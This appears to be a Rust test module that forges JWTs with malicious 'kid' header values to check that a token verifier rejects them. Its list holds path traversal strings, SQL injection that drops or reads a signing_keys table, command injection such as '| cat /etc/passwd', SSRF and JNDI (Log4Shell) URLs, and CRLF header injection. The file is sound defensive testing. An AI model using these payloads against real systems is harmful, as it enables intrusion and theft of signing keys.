//! Key ids that would open a file, a query, an address or another key.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::json;

use super::{Class, Forge};

pub(super) fn injected(forge: &Forge) -> Class {
    let mut class = Class::new("key id");
    let long = "a".repeat(900);
    let kid = forge.kid.clone();
    let upper = kid.to_uppercase();
    let near =
        [format!("{kid} "), format!(" {kid}"), format!("{kid}\u{0}"), format!("{kid}\n"), format!("{kid}/")];
    let other = kid.chars().rev().collect::<String>();
    let mut ids = vec![
        "",
        "0",
        "null",
        "undefined",
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/random/boot_id",
        "..\\..\\windows\\win.ini",
        "C:\\key.pem",
        "' OR '1'='1",
        "' UNION SELECT 'x' --",
        "\"; DROP TABLE signing_keys; --",
        "x' || (SELECT pkcs8 FROM signing_keys) || '",
        "%",
        "_",
        "*",
        "%00",
        "%2e%2e%2f",
        "$(id)",
        "`id`",
        "; ls",
        "| cat /etc/passwd",
        "http://192.0.2.1/key",
        "https://192.0.2.1/jwks.json",
        "file:///dev/null",
        "data:,key",
        "ldap://192.0.2.1/x",
        "{{7*7}}",
        "${jndi:ldap://192.0.2.1/x}",
        "\u{202e}",
        "ｋｉｄ",
        "🔑",
        "\u{0}",
        "\r\nX-Injected: 1",
        "[]",
        "{}",
        "-1",
        long.as_str(),
        other.as_str(),
        &kid[1..],
        &kid[..kid.len() - 1],
    ];
    if upper != kid {
        ids.push(&upper);
    }
    ids.extend(near.iter().map(String::as_str));
    for id in ids {
        let name: String = id.chars().take(40).collect();
        class.add(format!("{name:?}"), forge.with_header(&forge.header_with("kid", json!(id))));
    }
    for (name, id) in [
        ("a number", json!(1)),
        ("a list", json!([kid])),
        ("an object", json!({"kid": kid})),
        ("true", json!(true)),
        ("null itself", json!(null)),
    ] {
        class.add(name, forge.with_header(&forge.header_with("kid", id)));
    }
    // The right id over a signature of another key.
    let message = format!("{}.{}", forge.parts()[0], forge.parts()[1]);
    let signature = forge.other_key.sign(message.as_bytes());
    class.add("right, another key", format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature.as_ref())));
    class
}
